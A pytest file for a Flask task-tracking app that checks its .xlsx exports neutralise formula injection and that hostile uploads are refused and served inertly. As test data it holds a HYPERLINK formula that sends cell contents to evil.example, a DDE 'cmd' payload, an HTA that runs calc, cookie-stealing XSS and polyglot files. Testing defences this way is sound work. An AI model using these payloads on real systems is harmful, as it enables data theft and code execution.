"""Hostile files against the real app: formula injection in the .xlsx exports, attachments that are not
what they claim (or are pages and scripts), too many or too large uploads, and how attachments are served."""
from __future__ import annotations

import codecs
import csv
import io
import os
import shutil
import subprocess
import uuid
import zipfile
from datetime import date
from pathlib import Path

import pytest
from flask import render_template_string
from openpyxl import load_workbook
from sqlalchemy import func, select

from app.errors import ValidationFailed
from app.extensions import db
from app.models import Attachment, Milestone, MilestoneReport, ReviewDecision, Unit
from app.services.infrastructure import attachments
from app.services.lifecycle import decomposition, reporting
from app.services.lifecycle.decomposition import MilestonePlan
from app.services.lifecycle.reporting import Upload, UploadPolicy
from app.steps import STEPS
from tests.services.test_lifecycle import item_for
from tests.web.test_work import as_user, open_item, post

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
LIBREOFFICE = shutil.which("libreoffice") or shutil.which("soffice")
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(32)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)


def zip_of(*parts: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for part in parts:
            archive.writestr(part, "<x/>")
    return buffer.getvalue()


# --- .xlsx exports: text is text --------------------------------------------------------------------------

@pytest.fixture
def decomposed(task7, people):
    """Task 7 decomposed by 注册处 into a milestone titled with a formula, confirmed by 督审处."""
    zhuce, dushen = people["zhuce"], people["dushen"]
    plans = [MilestonePlan(FORMULA, "+cmd|' /C calc'!A0", date(2023, 9, 30), zhuce.id, past_date_reason="补录"),
             MilestonePlan("-2+3", "@SUM(1,2)", date(2023, 10, 31), zhuce.id, past_date_reason="补录")]
    decomposition.submit_decomposition(item_for(zhuce, "decomposition", task7), plans, None, zhuce)
    decomposition.review_decomposition(item_for(dushen, "decomposition_review", task7),
                                       ReviewDecision.APPROVE, None, dushen)
    db.session.commit()
    return task7


def test_a_formula_typed_as_a_milestone_title_reaches_the_ledger_as_text(app, decomposed, tmp_path):
    dushen = as_user(app, "dushen")
    response = dushen.get(f"/dashboards/export/ledger?plan_id={decomposed.plan_id}&as_of=2023-10-09")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (FORMULA, "-2+3"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    task_line = next(row for row in sheet.iter_rows(min_row=3) if row[1].value == 7)
    assert task_line[1].data_type == "n"   # numbers stay numbers
    if LIBREOFFICE or os.environ.get("CI") == "true":
        shown = [value for line in _as_csv(response.data, tmp_path) for value in line]
        assert FORMULA in shown and "-2+3" in shown   # LibreOffice shows the text, it computes nothing


def _as_csv(data: bytes, tmp_path: Path) -> list[list[str]]:
    source = tmp_path / "ledger.xlsx"
    source.write_bytes(data)
    profile = f"-env:UserInstallation=file://{tmp_path / 'lo'}"
    subprocess.run([LIBREOFFICE, profile, "--headless", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path), str(source)],
                   capture_output=True, timeout=180, check=True)
    return list(csv.reader(io.StringIO((tmp_path / "ledger.csv").read_text(encoding="utf-8"))))


def test_a_unit_named_like_a_formula_reaches_the_assessment_as_text(app, plan_2023):
    unit = db.session.scalar(select(Unit).where(Unit.name == "注册处"))
    unit.name = "@SUM(A1:A9)"
    db.session.commit()
    response = as_user(app, "dushen").get(f"/dashboards/export/assessment?plan_id={plan_2023.id}")
    sheet = load_workbook(io.BytesIO(response.data)).active
    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == "@SUM(A1:A9)"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert sheet.cell(row=cell.row, column=1).data_type == "n"
    # 名次, 并列, 单位, then 牵头任务数: a number
    assert sheet.cell(row=cell.row, column=4).data_type == "n" and sheet.cell(row=cell.row, column=4).value == 3


@pytest.fixture
def reportable(task7, people):
    """Task 7 decomposed into one milestone, confirmed: 注册处 has one 报送进展 step open."""
    zhuce, dushen = people["zhuce"], people["dushen"]
    plans = [MilestonePlan("扩大行业范围", "行业清单", date(2023, 9, 30), zhuce.id, past_date_reason="补录")]
    decomposition.submit_decomposition(item_for(zhuce, "decomposition", task7), plans, None, zhuce)
    decomposition.review_decomposition(item_for(dushen, "decomposition_review", task7),
                                       ReviewDecision.APPROVE, None, dushen)
    db.session.commit()
    return task7


# --- attachments: allowed by extension and content ---------------------------------------------------------

HOSTILE = [
    ("run.bat", b"@echo off\r\nstart calc.exe\r\n"),
    ("app.hta", b'<hta:application id="x"/><script>new ActiveXObject("WScript.Shell").Run("calc")</script>'),
    ("page.html", b"<!doctype html><html><script>alert(document.cookie)</script></html>"),
    ("进展报告.pdf", b"%PDF-1.4\n<html><body><script>fetch('/work/inbox')</script></body></html>"),   # polyglot
    ("报告.pdf", b"<!DOCTYPE html><html><body>not a pdf</body></html>"),
    ("photo.png", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>"),
    ("说明.txt", b"  <SCRIPT>alert(1)</SCRIPT>"),
    ("utf16.txt", codecs.BOM_UTF16_LE + "<html><script>x</script>".encode("utf-16-le")),
    ("图.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    ("材料.docx", zip_of("xl/workbook.xml")),        # a workbook named as a document
    ("材料.docx", zip_of("evil.sh")),
    ("通知.ofd", zip_of("word/document.xml")),
    ("表.xls", PDF),
    ("报告", PDF),                                   # no extension
    ("report.pdf.exe", PDF),
    ("a.pdf", b"MZ\x90\x00\x03" + bytes(100)),
    ("data.csv", bytes(range(256))),                 # binary named as text
    ("繁体.txt", "市場監督管理局工作進展說明，已完成抽檢任務。".encode("big5")),   # would be GB18030 mojibake
    ("混合.txt", "第一行说明\n".encode() + "第二行说明\n".encode("gbk")),        # mixed encodings
]


def test_hostile_files_are_refused_and_nothing_is_stored(app, reportable):
    zhuce = as_user(app, "zhuce")
    url = open_item(zhuce, "milestone_report", reportable)
    before = _stored_files(app, reportable.id)
    for name, data in HOSTILE:
        files = {"attachments": [(io.BytesIO(PDF), "好的.pdf"), (io.BytesIO(data), name)]}
        page = _submit_report(zhuce, url, files)
        assert page.status_code == 200, name
        text = page.get_data(as_text=True)
        assert f"附件“{name}”的格式不受支持" in text and attachments.ACCEPTED in text, name
        assert _count(Attachment) == 0 and _count(MilestoneReport) == 0, name
        assert _stored_files(app, reportable.id) == before, name


ALLOWED = [
    ("进展报告.pdf", PDF), ("通知.ofd", zip_of("OFD.xml", "Doc_0/Document.xml")),
    ("报告.docx", zip_of("[Content_Types].xml", "word/document.xml")), ("台账.xlsx", zip_of("xl/workbook.xml")),
    ("汇报.pptx", zip_of("ppt/presentation.xml")), ("旧报告.doc", OLE), ("旧表.xls", OLE), ("旧稿.ppt", OLE),
    ("公文.wps", OLE), ("表格.et", OLE), ("照片.PNG", PNG), ("现场.jpg", b"\xff\xd8\xff\xe0" + bytes(16)),
    ("现场.jpeg", b"\xff\xd8\xff\xe1" + bytes(16)), ("动图.gif", b"GIF89a" + bytes(16)),
    ("说明.txt", "进展情况说明".encode("gb18030")), ("清单.csv", "行业,数量\n餐饮,18\n".encode("utf-8-sig")),
]


def test_every_allowed_kind_is_accepted_and_served_as_a_download(app, reportable):
    zhuce = as_user(app, "zhuce")
    url = open_item(zhuce, "milestone_report", reportable)
    files = {"attachments": [(io.BytesIO(data), name) for name, data in ALLOWED]}
    assert _submit_report(zhuce, url, files, follow=False).status_code == 302
    rows = db.session.scalars(select(Attachment).order_by(Attachment.id)).all()
    assert [r.original_name for r in rows] == [name for name, _ in ALLOWED]
    dushen = as_user(app, "dushen")
    for row, (name, data) in zip(rows, ALLOWED, strict=False):
        with dushen.get(f"/attachments/{row.id}") as download:
            assert download.status_code == 200
            assert download.headers["X-Content-Type-Options"] == "nosniff"
            assert download.headers["Content-Type"].split(";")[0] == attachments.ALLOWED[
                Path(name).suffix.lower()][0].split(";")[0]
            disposition = download.headers["Content-Disposition"]
            assert disposition.startswith(f'attachment; filename="attachment-{row.id}{Path(name).suffix}"')
            assert disposition.endswith("filename*=UTF-8''" + _quoted(name))
            if name.endswith(".txt"):   # GB18030 text is stored as the UTF-8 its content type promises
                assert download.data.decode("utf-8-sig") == "进展情况说明"
            else:
                assert download.data == data


def _quoted(name: str) -> str:
    from urllib.parse import quote
    return quote(name, safe="")


def test_a_file_stored_before_the_allow_list_is_served_as_inert_text(app, reportable, people):
    """An .html kept (as text) by an earlier version downloads as .txt, never as a page."""
    folder = Path(app.config["ATTACHMENT_DIR"]) / f"task-{reportable.id}"
    folder.mkdir(parents=True, exist_ok=True)
    stored = f"{uuid.uuid4().hex}.txt"
    (folder / stored).write_bytes(b"<html><script>alert(1)</script></html>")
    milestone = db.session.scalar(select(Milestone).where(Milestone.plan_task_id == reportable.id))
    report = MilestoneReport(milestone=milestone, number=1, progress="进展", percent_done=0,
                             submitted_by=people["zhuce"])
    db.session.add(report)
    db.session.flush()
    row = Attachment(plan_task_id=reportable.id, milestone_report_id=report.id,
                     original_name="evil.html",
                     stored_name=stored, content_type="text/html", size=38, sha256="0" * 64,
                     uploaded_by=people["zhuce"])
    db.session.add(row)
    db.session.commit()
    with as_user(app, "dushen").get(f"/attachments/{row.id}") as download:
        assert download.headers["Content-Type"] == "text/plain; charset=utf-8"
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        assert download.headers["Content-Disposition"] == (
            "attachment; filename=\"evil.txt\"; filename*=UTF-8''evil.txt")
        assert "sandbox" in download.headers["Content-Security-Policy"]
    (folder / stored).unlink()


# --- attachments: how many and how much per submission ------------------------------------------------------

def test_two_hundred_attachments_on_one_report_are_refused(app, reportable):
    zhuce = as_user(app, "zhuce")
    url = open_item(zhuce, "milestone_report", reportable)
    files = {"attachments": [(io.BytesIO(PDF), f"附件{i}.pdf") for i in range(200)]}
    page = _submit_report(zhuce, url, files)
    assert page.status_code == 200 and "一次最多上传 20 个附件,本次选择了 200 个" in page.get_data(as_text=True)
    assert _count(Attachment) == 0 and _count(MilestoneReport) == 0
    one_too_many = {"attachments": [(io.BytesIO(PDF), f"附件{i}.pdf") for i in range(21)]}
    assert "本次选择了 21 个" in _submit_report(zhuce, url, one_too_many).get_data(as_text=True)
    twenty = {"attachments": [(io.BytesIO(PDF), f"附件{i}.pdf") for i in range(20)]}
    assert _submit_report(zhuce, url, twenty, follow=False).status_code == 302 and _count(Attachment) == 20


def test_a_submission_over_the_size_limit_is_refused_with_a_message(app, reportable):
    zhuce = as_user(app, "zhuce")
    url = open_item(zhuce, "milestone_report", reportable)
    limit = app.config["MAX_CONTENT_LENGTH"]
    app.config["MAX_CONTENT_LENGTH"] = 256 * 1024
    try:
        files = {"attachments": [(io.BytesIO(PDF + bytes(200 * 1024)), f"大文件{i}.pdf") for i in range(2)]}
        page = _submit_report(zhuce, url, files, follow=False)
    finally:
        app.config["MAX_CONTENT_LENGTH"] = limit
    assert page.status_code == 413 and "超过了允许的大小" in page.get_data(as_text=True)
    assert _count(Attachment) == 0 and _count(MilestoneReport) == 0


def test_the_service_refuses_more_than_the_total_in_one_submission(app, reportable, people, tmp_path):
    zhuce = people["zhuce"]
    policy = UploadPolicy(tmp_path, 1024 * 1024, max_files=5, max_total_bytes=1024 * 1024)
    uploads = [Upload(f"{i}.pdf", PDF + bytes(600 * 1024)) for i in range(2)]
    with pytest.raises(ValidationFailed, match="超过每次提交 1 MB 的上限"):
        item = item_for(zhuce, "milestone_report", reportable)
        reporting.submit_report(item, "进展", 10, {}, uploads, policy, zhuce)
    db.session.rollback()
    assert list(tmp_path.iterdir()) == []


def test_every_upload_field_states_the_limits_and_the_allowed_types(app, reportable):
    zhuce = as_user(app, "zhuce")
    page = zhuce.get(open_item(zhuce, "milestone_report", reportable))
    text = page.get_data(as_text=True)
    assert "每次最多 20 个文件,合计不超过 10 MB" in text and attachments.ACCEPTED in text
    assert f'accept="{",".join(attachments.ALLOWED)}"' in text
    with app.test_request_context():
        for key, step in STEPS.items():
            form = step.form()
            if "attachments" in form:
                shown = render_template_string(
                    '{% from "_forms.html" import field %}{{ field(form.attachments) }}', form=form)
                assert "每次最多 20 个文件" in shown and attachments.ACCEPTED in shown, key
    plan_import = as_user(app, "dushen").get("/plans/import").get_data(as_text=True)
    assert "文件不超过 10 MB" in plan_import


# --- helpers ------------------------------------------------------------------------------------------------

def _submit_report(client, url: str, files: dict, follow: bool = True):
    data = {"progress": "已完成一半", "percent_done": "50", "submit": "1"}
    response = post(client, url, data, files)
    if follow and response.status_code == 302:
        return client.get(response.headers["Location"])   # a refusal that flashes and redirects
    return response


def _count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count(model.id)))


def _stored_files(app, task_id: int) -> set[str]:
    folder = Path(app.config["ATTACHMENT_DIR"]) / f"task-{task_id}"
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


def test_html_sniffing_looks_at_the_first_kilobyte_only():
    assert attachments.looks_active(b"%PDF-1.7\n" + b"<script>")
    assert not attachments.looks_active(b"%PDF-1.7\n" + bytes(2048) + b"<script>")
